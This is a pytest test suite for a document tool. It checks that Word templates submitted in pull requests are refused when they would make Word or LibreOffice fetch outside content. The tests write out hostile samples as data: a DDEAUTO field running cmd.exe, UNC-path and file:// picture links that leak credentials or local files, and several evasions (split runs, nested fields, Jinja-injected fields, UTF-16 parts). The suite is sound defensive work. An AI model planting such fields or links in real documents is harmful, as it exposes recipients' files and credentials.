"""Templates may come from anyone's pull request: what in one would make Word or LibreOffice fetch
something when a letter is opened or printed (a linked part, a field that reads a file, a mail
merge, a web link used as a picture, an SVG naming files) is refused, in `check` and in `build`."""

import itertools
import json
import re
import zipfile
from html import escape

import pytest
from hypothesis import given, strategies as st

from conftest import own_template, retype, run
from proposal_docs.render.outside import FETCHING_FIELDS, ReachesOutside, refuse_fetching_fields


def edit_part(template, part: str, change) -> None:
    """Rewrite one part of a template's package: change(bytes) → bytes."""
    with zipfile.ZipFile(template) as archive:
        parts = [(info, archive.read(info)) for info in archive.infolist()]
    assert part in [info.filename for info, _ in parts]
    with zipfile.ZipFile(template, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in parts:
            archive.writestr(info, change(data) if info.filename == part else data)


def relate(template, relationship: str) -> None:
    """Add a relationship to the template's document part, as Word writes a linked (not embedded) picture."""
    edit_part(template, "word/_rels/document.xml.rels",
              lambda data: data.replace(b"</Relationships>", relationship.encode("utf-8") + b"</Relationships>"))


LINKED = ('<Relationship Id="rIdLinked" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
          'Target="{target}" TargetMode="External"/>')


@pytest.mark.parametrize("kind, target", [("image", "file:///home/clerk/photo.png"), ("image", "\\\\host\\share\\p.png"),
                                          ("image", "https://example.org/pixel.png"),
                                          ("attachedTemplate", "https://example.org/t.dotm"),
                                          ("hyperlink", "file:///home/clerk/notes.txt")])
def test_a_template_that_links_what_it_should_hold_is_refused(example, kind, target):
    """A pull request's template with a linked picture: Word and LibreOffice would fetch it, a file of
    the clerk's into the PDF, a UNC path answered with the clerk's credentials, for every letter."""
    relate(own_template(example, "reply"), LINKED.format(kind=kind, target=target))
    check = run(example, "check", "--today", "2024-12-31")
    assert check.exit_code == 1 and f"引用了外部的 {kind}（{target}" in check.output
    build = run(example, "build", "--no-site")
    assert build.exit_code == 2 and f"引用了外部的 {kind}（{target}" in build.stderr
    assert not list((example / "build").rglob("*.docx"))


def test_a_template_may_link_to_the_web(example):
    relate(own_template(example, "reply"), LINKED.format(kind="hyperlink", target="https://example.org/政策"))
    assert run(example, "check", "--today", "2024-12-31").exit_code == 0
    assert run(example, "build", "--no-site").exit_code == 0


def field(*codes: str) -> str:
    """A complex field as Word writes it, its code split over runs; a tuple among codes is a field nested in it."""
    runs = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    for code in codes:
        if isinstance(code, tuple):
            runs += field(*code).removeprefix("<w:p>").removesuffix("</w:p>")
        else:
            runs += f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>'
    return runs.join(["<w:p>", '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
                                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'])


def in_body(paragraph: str):
    return lambda data: data.replace(b"<w:body>", b"<w:body>" + paragraph.encode("utf-8"), 1)


MAIL_MERGE = ('<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
              '<w:connectString w:val="Provider=MSDASQL;DSN=x"/><w:query w:val="SELECT * FROM t"/></w:mailMerge>')


@pytest.mark.parametrize("part, change, shown", [
    ("word/document.xml", in_body(field(" INCLUDE", 'PICTURE "\\\\host\\share\\p.png" \\d ')), "INCLUDEPICTURE 域"),
    ("word/document.xml", in_body(field(' includepicture "', (" MERGEFIELD photo ",), '" ')), "INCLUDEPICTURE 域"),
    ("word/document.xml", in_body(field(' LINK Excel.Sheet.8 "C:\\data\\a.xls" "" \\a ')), "LINK 域"),
    ("word/footer1.xml", lambda data: data.replace(b'w:instr="PAGE"', b'w:instr=" INCLUDETEXT &quot;file:///etc/hosts&quot; "'),
     "INCLUDETEXT 域"),
    ("word/settings.xml", lambda data: re.sub(rb"(<w:settings[^>]*>)", lambda m: m.group(1) + MAIL_MERGE.encode(), data, count=1),
     "设置了邮件合并"),
    ("word/document.xml", in_body('<w:altChunk xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
                                  'r:id="rId1"/>'), "altChunk"),
])
def test_a_template_with_a_field_that_fetches_is_refused(example, part, change, shown):
    """Word refreshes INCLUDEPICTURE, INCLUDETEXT, LINK and DDE fields, and a mail merge's data source,
    when it opens a letter: a file of the clerk's, or a UNC path answered with the clerk's credentials."""
    edit_part(own_template(example, "reply"), part, change)
    check = run(example, "check", "--today", "2024-12-31", "--format", "json")
    (finding,) = [f for f in json.loads(check.output) if f["code"] == "bad-template"]
    assert finding["file"] == "templates/reply.docx" and f"的 {part} " in finding["message"] and shown in finding["message"]
    assert "Alt+F9" in finding["message"] or "域" not in shown  # where a clerk finds a field's code in Word
    build = run(example, "build", "--no-site")
    assert build.exit_code == 2 and shown in build.stderr
    assert not list((example / "build").rglob("*.docx"))


def test_fields_that_fetch_nothing_are_kept(example):
    """Page numbers (in every packaged template's footer), hyperlinks and dates are what letters use."""
    edit_part(own_template(example, "reply"), "word/document.xml",
              in_body(field(' HYPERLINK "https://example.org/" ') + field(" DATE \\@ yyyy ") + field(" PAGE ")))
    assert run(example, "check", "--today", "2024-12-31").exit_code == 0
    assert run(example, "build", "--no-site").exit_code == 0
    letter = next((example / "build").rglob("*答复*.docx"))
    with zipfile.ZipFile(letter) as archive:
        assert b"HYPERLINK" in archive.read("word/document.xml")


def test_a_field_spelt_by_jinja_is_refused_when_rendered(example):
    """The template shows no field code; its Jinja writes one into every letter."""
    hidden = "{{ ('</w:t></w:r><w:fld' ~ 'Simple w:instr=\"INCLUDE' ~ 'PICTURE x.png\"/><w:r><w:t>') | safe }}"
    retype(own_template(example, "reply"), "{{ case.title }}", "{{ case.title }}" + hidden)
    build = run(example, "build", "--no-site")
    assert build.exit_code == 2, build.output
    assert "生成的 word/document.xml 含有 INCLUDEPICTURE 域" in build.stderr
    assert not list((example / "build").rglob("*答复函*")), "no letter made from that template is written"


@given(st.sampled_from(sorted(FETCHING_FIELDS)), st.lists(st.integers(0, 40), max_size=6), st.booleans(),
       st.sampled_from(["", " ", "  "]))
def test_a_fetching_field_is_found_however_its_code_is_split(name, cuts, lower, lead):
    """Word joins a field's code from all its runs; so does the check, whatever the letter case."""
    code = f'{lead}{name.lower() if lower else name} "\\\\host\\share\\p.png" '
    pieces = [code[a:b] for a, b in itertools.pairwise([0, *sorted(min(c, len(code)) for c in cuts), len(code)])]
    document = ('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
                + field(*[escape(piece) for piece in pieces]) + "</w:body></w:document>")
    with pytest.raises(ReachesOutside, match=f"含有 {name} 域"):
        refuse_fetching_fields(document.encode("utf-8"), "word/document.xml")


def add_parts(template, parts: dict[str, bytes], change: dict[str, object]) -> None:
    """Add parts to a template's package and rewrite others: change maps a part to bytes → bytes."""
    with zipfile.ZipFile(template) as archive:
        kept = [(info, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(template, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in kept:
            archive.writestr(info, change[info.filename](data) if info.filename in change else data)
        for name, data in parts.items():
            archive.writestr(name, data)


def test_a_field_in_a_part_outside_word_is_refused(example):
    """Word and LibreOffice find the main document by the package's relationship, not by its name:
    a template may keep a harmless word/document.xml for the tool and show another part."""
    template = own_template(example, "reply")
    with zipfile.ZipFile(template) as archive:
        document = archive.read("word/document.xml")
        relations = archive.read("word/_rels/document.xml.rels")
    shown = in_body(field(' INCLUDEPICTURE "\\\\host\\share\\p.png" \\d '))(document)
    add_parts(template, {"Letter/main.xml": shown, "Letter/_rels/main.xml.rels": relations.replace(b'Target="', b'Target="../word/')},
              {"_rels/.rels": lambda data: data.replace(b'Target="word/document.xml"', b'Target="Letter/main.xml"'),
               "[Content_Types].xml": lambda data: data.replace(b"/word/document.xml", b"/Letter/main.xml")})
    check = run(example, "check", "--today", "2024-12-31", "--format", "json")
    (finding,) = [f for f in json.loads(check.output) if f["code"] == "bad-template"]
    assert "的 Letter/main.xml 含有 INCLUDEPICTURE 域" in finding["message"]


def test_a_field_in_a_part_written_in_utf16_is_refused(example):
    """XML parts may be UTF-16 (ECMA-376 part 2): the field is found there too, and nothing crashes."""
    edit_part(own_template(example, "reply"), "word/footer1.xml",
              lambda data: data.replace(b'w:instr="PAGE"', b'w:instr=" INCLUDETEXT &quot;file:///etc/hosts&quot; "')
              .decode("utf-8").replace("encoding='UTF-8'", "encoding='UTF-16'").replace('encoding="UTF-8"', 'encoding="UTF-16"')
              .encode("utf-16"))
    check = run(example, "check", "--today", "2024-12-31", "--format", "json")
    assert check.exit_code == 1 and "Traceback" not in check.output
    (finding,) = [f for f in json.loads(check.output) if f["code"] == "bad-template"]
    assert "的 word/footer1.xml 含有 INCLUDETEXT 域" in finding["message"]


def _document(body: str) -> bytes:
    return ('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
            + body + "</w:body></w:document>").encode("utf-8")


@pytest.mark.parametrize("body, shown", [
    (field(escape('INCLUDEPICTURE"\\\\host\\share\\p.png" \\d')), "含有 INCLUDEPICTURE 域"),  # a quote against the type
    (field(escape('DDEAUTO"c:\\\\windows\\\\system32\\\\cmd.exe" "/k calc"')), "含有 DDEAUTO 域"),
    (field(escape(' INCLUDETEXT\\c "\\\\host\\share\\a.txt"')), "含有 INCLUDETEXT 域"),  # a switch against the type
    (field(escape(' "LINK" Excel.Sheet.8 "C:\\a.xls" ""')), "含有 LINK 域"),  # the type in quotes
    (field(" QUOTE 1 ").replace("instrText", "delInstrText")
     .replace("QUOTE 1", escape('INCLUDEPICTURE "\\\\host\\p.png"')), "含有 INCLUDEPICTURE 域"),  # back on rejecting changes
    (field((' QUOTE "INCLUDEPICTURE" ',), escape(' "\\\\host\\p.png" \\d ')), "其类型由嵌套在其中的域生成"),
    (field(" PAGE ", (escape(' INCLUDEPICTURE "\\\\host\\p.png" '),)).replace(
        'fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE',
        'fldCharType="Begin "/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE'), "含有 INCLUDEPICTURE 域"),
    (field('<w:fldSimple w:instr="QUOTE INCLUDETEXT"/>', ' "x.txt" ').replace(
        '<w:r><w:instrText xml:space="preserve"><w:fldSimple', "<w:fldSimple").replace(
        '/></w:instrText></w:r>', "/>"), "其类型由嵌套在其中的域生成"),
])
def test_a_fetching_field_is_found_however_its_type_is_written(body, shown):
    """Word reads a field's type up to the first character that is not a letter, and a nested
    field's result can be the type: neither hides a field that fetches."""
    with pytest.raises(ReachesOutside, match=shown):
        refuse_fetching_fields(_document(body), "word/document.xml")


@pytest.mark.parametrize("code", [" PAGE ", ' DATE \\@ "yyyy年M月d日" ', " NUMPAGES ", ' HYPERLINK "https://example.org/" ',
                                  " RDX ", ' IF 1 = 1 "INCLUDEPICTURE" "" ', ' QUOTE "LINK" '])
def test_other_fields_are_kept(code):
    refuse_fetching_fields(_document(field(escape(code))), "word/document.xml")


@pytest.mark.parametrize("mode", ["external", "EXTERNAL", " External ", "Extern"])
def test_a_link_is_refused_however_its_target_mode_is_spelt(example, mode):
    """LibreOffice (`build --pdf`) fetched file:///… into the PDF for TargetMode "external",
    "EXTERNAL" and " External " as for "External": anything but Internal is taken as a link."""
    target = "file:///home/clerk/photo.png"
    relate(own_template(example, "reply"), LINKED.format(kind="image", target=target).replace('"External"', f'"{mode}"'))
    check = run(example, "check", "--today", "2024-12-31")
    assert check.exit_code == 1 and f"引用了外部的 image（{target}" in check.output


WEB_LINK = ('<Relationship Id="rIdWeb" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
            'Target="https://example.org/pixel.png" TargetMode="External"/>')


def test_a_web_hyperlink_used_as_a_picture_is_refused(example):
    """A hyperlink's relationship named by a picture (r:link) is fetched as a linked picture is:
    LibreOffice requested the URL and printed the picture into the PDF."""
    template = own_template(example, "reply")
    relate(template, WEB_LINK)
    edit_part(template, "word/document.xml", in_body('<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rIdWeb"/></w:drawing></w:r></w:p>'))
    check = run(example, "check", "--today", "2024-12-31")
    assert check.exit_code == 1 and "的 word/document.xml 把网页链接（https://example.org/pixel.png）用作 blip 的内容" in check.output


def test_a_web_hyperlink_made_a_picture_by_jinja_is_refused_when_rendered(example):
    template = own_template(example, "reply")
    relate(template, WEB_LINK)
    hidden = "{{ ('</w:t></w:r><w:drawing><a:blip xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" r:li' ~ 'nk=\"rIdWeb\"/></w:drawing><w:r><w:t>') | safe }}"
    retype(template, "{{ case.title }}", "{{ case.title }}" + hidden)
    build = run(example, "build", "--no-site")
    assert build.exit_code == 2 and "生成的 word/document.xml 把网页链接（https://example.org/pixel.png）用作 blip" in build.stderr


def test_a_web_hyperlink_stays_a_hyperlink(example):
    template = own_template(example, "reply")
    relate(template, WEB_LINK)
    edit_part(template, "word/document.xml", in_body('<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>网页</w:t></w:r></w:hyperlink></w:p>'))
    assert run(example, "check", "--today", "2024-12-31").exit_code == 0
    assert run(example, "build", "--no-site").exit_code == 0


SVG = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40">'
       '<rect width="40" height="40" fill="url(#g)"/>{inner}</svg>')


@pytest.mark.parametrize("inner, shown", [
    ('<image xlink:href="file:///home/clerk/photo.png" width="40" height="40"/>', "file:///home/clerk/photo.png"),
    ('<image href="\\\\host\\share\\p.png" width="40" height="40"/>', "\\\\host\\share\\p.png"),
    ('<rect width="1" height="1" style="fill:url(file:///home/clerk/a.svg#x)"/>', "file:///home/clerk/a.svg#x"),
    ('<style>@import "https://example.org/a.css";</style>', "@import"),
])
def test_an_svg_picture_naming_other_files_is_refused(example, inner, shown):
    """LibreOffice (`build --pdf`) loaded an SVG picture's <image href="file:///…"> into the PDF."""
    template = own_template(example, "reply")
    add_parts(template, {"word/media/image9.svg": SVG.format(inner=inner).encode("utf-8")}, {})
    check = run(example, "check", "--today", "2024-12-31")
    assert check.exit_code == 1 and f"的 word/media/image9.svg 是引用了外部文件（{shown}）的 SVG 图片" in check.output


def test_an_svg_picture_holding_all_it_shows_is_kept(example):
    inner = ('<defs><linearGradient id="g"/></defs><use href="#g"/>'
             '<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>')
    add_parts(own_template(example, "reply"), {"word/media/image9.svg": SVG.format(inner=inner).encode("utf-8")}, {})
    assert run(example, "check", "--today", "2024-12-31").exit_code == 0


def test_a_letter_mentioning_svg_and_url_is_kept(example):
    """Only a part whose root is <svg> is a picture: a letter's text may name the namespace and url()."""
    edit_part(own_template(example, "reply"), "word/document.xml",
              in_body('<w:p><w:r><w:t>http://www.w3.org/2000/svg url(file:///x)</w:t></w:r></w:p>'))
    assert run(example, "check", "--today", "2024-12-31").exit_code == 0


def test_a_rendered_part_that_reads_as_utf16_is_checked_as_such(example):
    """What the build encodes from text is UTF-8, so only UTF-8 spellings are looked for in it; but
    text interleaved with NULs reads as UTF-16 to expat (and to Word), and is checked as that."""
    document = ('<?xml version="1.0" encoding="UTF-16"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                'wordprocessingml/2006/main"><w:body>' + field(' INCLUDEPICTURE "x.png" ') + "</w:body></w:document>")
    literal = "".join("\\x00" if byte == 0 else "\\x22" if byte == ord('"') else chr(byte)
                      for byte in document.encode("utf-16-le"))
    edit_part(own_template(example, "reply"), "word/document.xml", lambda _: ('{{ "' + literal + '" | safe }}').encode("ascii"))
    build = run(example, "build", "--no-site")
    assert build.exit_code == 2, build.output
    assert "生成的 word/document.xml 含有 INCLUDEPICTURE 域" in build.stderr
